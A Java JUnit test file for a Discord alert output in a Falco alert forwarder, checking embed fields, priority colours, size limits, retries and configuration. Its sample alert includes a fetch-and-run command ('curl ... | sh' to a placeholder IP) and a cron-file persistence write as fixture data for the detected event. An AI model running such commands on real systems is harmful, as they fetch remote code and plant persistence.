package dev.peregrine.sidekick.output.discord;

import static dev.peregrine.sidekick.testing.ConfiguredOutputs.bind;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.peregrine.sidekick.alert.Alert;
import dev.peregrine.sidekick.alert.Priority;
import dev.peregrine.sidekick.config.ConfigException;
import dev.peregrine.sidekick.delivery.ConfiguredOutput;
import dev.peregrine.sidekick.output.Chat;
import dev.peregrine.sidekick.output.DeliveryException;
import dev.peregrine.sidekick.output.Output;
import dev.peregrine.sidekick.output.OutputContext;
import dev.peregrine.sidekick.output.PayloadStyle;
import dev.peregrine.sidekick.testing.RecordingHttpServer;
import dev.peregrine.sidekick.testing.SampleAlerts;
import java.net.URI;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/** The Discord output against a real HTTP endpoint on loopback, payloads checked field by field. */
class DiscordOutputTest {
    static final JsonMapper JSON = JsonMapper.builder().build();
    /** Peregrine's payloads; Falcosidekick's are the FalcosidekickPayloadTest's. */
    static final OutputContext CONTEXT =
            new OutputContext("discord", "peregrine.outputs.discord", PayloadStyle.PEREGRINE, Set.of());

    final RecordingHttpServer discord = new RecordingHttpServer();

    @AfterEach
    void stop() {
        discord.close();
    }

    DiscordConfig config(String messageFormat, boolean mentionEveryone) {
        return new DiscordConfig(
                discord.uri(), "Peregrine", Chat.DEFAULT_ICON, messageFormat, mentionEveryone, Duration.ofSeconds(5));
    }

    JsonNode post(DiscordConfig config, Alert alert) throws DeliveryException {
        try (Output out = config.create(CONTEXT)) {
            out.send(alert);
        }
        RecordingHttpServer.Request r = discord.requests().getLast();
        assertThat(r.method()).isEqualTo("POST");
        assertThat(r.path()).isEqualTo("/hook");
        assertThat(r.header("Content-Type")).isEqualTo("application/json");
        return JSON.readTree(r.body());
    }

    @Test
    void postsFalcosidekicksEmbedWithAnIntegerColour() throws Exception {
        JsonNode body = post(config(null, false), SampleAlerts.alert(2));

        ObjectNode expected = (ObjectNode) JSON.readTree("""
                {
                  "username": "Peregrine",
                  "avatar_url": "https://raw.githubusercontent.com/falcosecurity/falcosidekick/master/imgs/falcosidekick_color.png",
                  "allowed_mentions": {"parse": ["users", "roles"]},
                  "embeds": [{
                    "color": 15844367,
                    "fields": [
                      {"name": "rule", "value": "Write below etc", "inline": true},
                      {"name": "priority", "value": "Error", "inline": true},
                      {"name": "source", "value": "syscall", "inline": true},
                      {"name": "hostname", "value": "bastion-01", "inline": true},
                      {"name": "container.id", "value": "```host```", "inline": true},
                      {"name": "container.image.repository", "value": "``````", "inline": true},
                      {"name": "container.image.tag", "value": "``````", "inline": true},
                      {"name": "container.name", "value": "```host```", "inline": true},
                      {"name": "evt.type", "value": "```openat```", "inline": true},
                      {"name": "fd.name", "value": "```/etc/cron.d/sysupdate```", "inline": true},
                      {"name": "proc.aname[2]", "value": "```sh```", "inline": true},
                      {"name": "proc.aname[3]", "value": "```sshd```", "inline": true},
                      {"name": "proc.aname[4]", "value": "```sshd```", "inline": true},
                      {"name": "proc.cmdline", "value": "```python3 -c open('/etc/cron.d/sysupdate','w').write(payload)```", "inline": true},
                      {"name": "proc.exepath", "value": "```/usr/bin/python3.11```", "inline": true},
                      {"name": "proc.name", "value": "```python3```", "inline": true},
                      {"name": "proc.pcmdline", "value": "```sh -c curl -fsSL http://198.51.100.7/i.sh | sh```", "inline": true},
                      {"name": "proc.pname", "value": "```sh```", "inline": true},
                      {"name": "user.name", "value": "```root```", "inline": true},
                      {"name": "tags", "value": "T1098, container, filesystem, host, maturity_sandbox, mitre_persistence", "inline": true},
                      {"name": "time", "value": "2025-11-20 10:02:11.734400921 +0000 UTC", "inline": true}
                    ]
                  }]
                }
                """);
        ((ObjectNode) expected.get("embeds").get(0)).put("description", SampleAlerts.output(2));
        assertThat(body).isEqualTo(expected);
    }

    @ParameterizedTest
    @CsvSource({
        "Emergency, 15158332", "Alert, 11027200", "Critical, 15105570", "Error, 15844367",
        "Warning, 12745742", "Notice, 3066993", "Informational, 3447003", "Debug, 12370112",
    })
    void colourFollowsPriorityAsInFalcosidekick(String priority, int colour) throws Exception {
        Alert a = SampleAlerts.alert(0);
        Alert alert = new Alert(
                a.uuid(),
                a.time(),
                a.rule(),
                Priority.parse(priority),
                a.source(),
                a.output(),
                a.outputFields(),
                a.tags(),
                a.hostname(),
                a.message(),
                a.origin());

        assertThat(post(config(null, false), alert)
                        .get("embeds")
                        .get(0)
                        .get("color")
                        .intValue())
                .isEqualTo(colour);
    }

    @Test
    void messageFormatIsTheContentAndEveryoneMentionsAreOptIn() throws Exception {
        String template = "{% if priority == \"Critical\" %}@everyone {% endif %}{{ priority | emoji }} {{ rule }}";

        JsonNode quiet = post(config(template, false), SampleAlerts.alert(4));
        assertThat(quiet.get("content").stringValue())
                .isEqualTo("@everyone \uD83D\uDFE0 Drop and execute new binary in container");
        assertThat(quiet.get("allowed_mentions")).isEqualTo(JSON.readTree("{\"parse\": [\"users\", \"roles\"]}"));

        JsonNode loud = post(config(template, true), SampleAlerts.alert(4));
        assertThat(loud.get("allowed_mentions"))
                .isEqualTo(JSON.readTree("{\"parse\": [\"users\", \"roles\", \"everyone\"]}"));
    }

    @Test
    void staysWithinDiscordsLimits() throws Exception {
        Alert a = SampleAlerts.alert(0);
        TreeMap<String, Object> fields = new TreeMap<>();
        for (int i = 0; i < 40; i++) {
            fields.put("f%02d".formatted(i), "v".repeat(i == 0 ? 2000 : 300));
        }
        Alert alert = new Alert(
                a.uuid(),
                a.time(),
                a.rule(),
                a.priority(),
                "",
                "x".repeat(5000),
                fields,
                a.tags(),
                a.hostname(),
                null,
                null);

        JsonNode embed = post(config(null, false), alert).get("embeds").get(0);

        assertThat(embed.get("description").stringValue()).hasSize(4096).endsWith("x\u2026");
        List<String> names = new ArrayList<>();
        int total = embed.get("description").stringValue().length();
        for (JsonNode f : embed.get("fields")) {
            names.add(f.get("name").stringValue());
            String value = f.get("value").stringValue();
            assertThat(value).isNotEmpty().hasSizeLessThanOrEqualTo(1024);
            total += f.get("name").stringValue().length() + value.length();
        }
        assertThat(total).isLessThanOrEqualTo(6000);
        // No empty "source"; tags and time kept; output fields cut where the budget ends.
        assertThat(names)
                .startsWith("rule", "priority", "hostname", "f00")
                .endsWith("tags", "time")
                .doesNotContain("source");
        assertThat(embed.get("fields").get(3).get("value").stringValue())
                .startsWith("```vvv")
                .endsWith("v\u2026```")
                .hasSize(1024);
        assertThat(names.size()).isLessThan(25);
    }

    @Test
    void neverMoreThan25Fields() throws Exception {
        Alert a = SampleAlerts.alert(0);
        TreeMap<String, Object> fields = new TreeMap<>();
        for (int i = 0; i < 40; i++) {
            fields.put("f%02d".formatted(i), "v");
        }
        Alert alert = new Alert(
                a.uuid(),
                a.time(),
                a.rule(),
                a.priority(),
                a.source(),
                a.output(),
                fields,
                a.tags(),
                a.hostname(),
                null,
                null);

        JsonNode names = post(config(null, false), alert).get("embeds").get(0).get("fields");

        assertThat(names).hasSize(25);
        assertThat(names.get(22).get("name").stringValue()).isEqualTo("f18");
        assertThat(names.get(24).get("name").stringValue()).isEqualTo("time");
    }

    @Test
    void outageIsRetryableAndARefusalIsPermanent() throws Exception {
        try (Output out = config(null, false).create(CONTEXT)) {
            discord.answer(429); // rate limited
            assertThatThrownBy(() -> out.send(SampleAlerts.alert(0)))
                    .isInstanceOfSatisfying(
                            DeliveryException.class,
                            e -> assertThat(e.retryable()).isTrue());
            discord.answer(502);
            assertThatThrownBy(() -> out.send(SampleAlerts.alert(0)))
                    .isInstanceOfSatisfying(
                            DeliveryException.class,
                            e -> assertThat(e.retryable()).isTrue());
            discord.answer(404); // Unknown Webhook: it was deleted
            assertThatThrownBy(() -> out.send(SampleAlerts.alert(0)))
                    .isInstanceOfSatisfying(
                            DeliveryException.class,
                            e -> assertThat(e.retryable()).isFalse());
            discord.answer(204);
            out.send(SampleAlerts.alert(0));
            assertThat(discord.requests()).hasSize(1);
        }
        URI nobody = discord.uri();
        discord.close();
        DiscordConfig down = new DiscordConfig(nobody, "", "", null, false, Duration.ofSeconds(2));
        try (Output out = down.create(CONTEXT)) {
            assertThatThrownBy(() -> out.send(SampleAlerts.alert(0)))
                    .isInstanceOfSatisfying(
                            DeliveryException.class,
                            e -> assertThat(e.retryable()).isTrue());
        }
    }

    @Test
    void bindsFromKebabKeysWithDefaults() {
        List<ConfiguredOutput> outputs = bind(Map.of(
                "peregrine.outputs.discord.type", "discord",
                "peregrine.outputs.discord.webhook-url", "https://discord.com/api/webhooks/1/abc",
                "peregrine.outputs.discord.mention-everyone", "true"));

        assertThat(outputs)
                .singleElement()
                .extracting(ConfiguredOutput::config)
                .isEqualTo(new DiscordConfig(
                        URI.create("https://discord.com/api/webhooks/1/abc"),
                        null, // unset: Falcosidekick's or Peregrine's, by the payload style
                        Chat.DEFAULT_ICON,
                        null,
                        true,
                        Duration.ofSeconds(10)));
    }

    @Test
    void configErrorsNameTheFullKey() {
        assertThatThrownBy(() -> bind(Map.of("peregrine.outputs.discord.type", "discord")))
                .isInstanceOfSatisfying(
                        ConfigException.class,
                        e -> assertThat(e.problems())
                                .contains("peregrine.outputs.discord.webhook-url: must not be null"));
        assertThatThrownBy(() -> new DiscordConfig(
                                URI.create("ftp://discord.com/x"), "", "", null, false, Duration.ofSeconds(1))
                        .create(CONTEXT))
                .isInstanceOfSatisfying(
                        ConfigException.class,
                        e -> assertThat(e.problems())
                                .singleElement()
                                .asString()
                                .startsWith("peregrine.outputs.discord.webhook-url: must be an http or https URL"));
        assertThatThrownBy(() -> config("{{ rule | }}", false).create(CONTEXT))
                .isInstanceOfSatisfying(
                        ConfigException.class,
                        e -> assertThat(e.problems())
                                .singleElement()
                                .asString()
                                .startsWith("peregrine.outputs.discord.message-format: template error at line 1: "));
    }
}
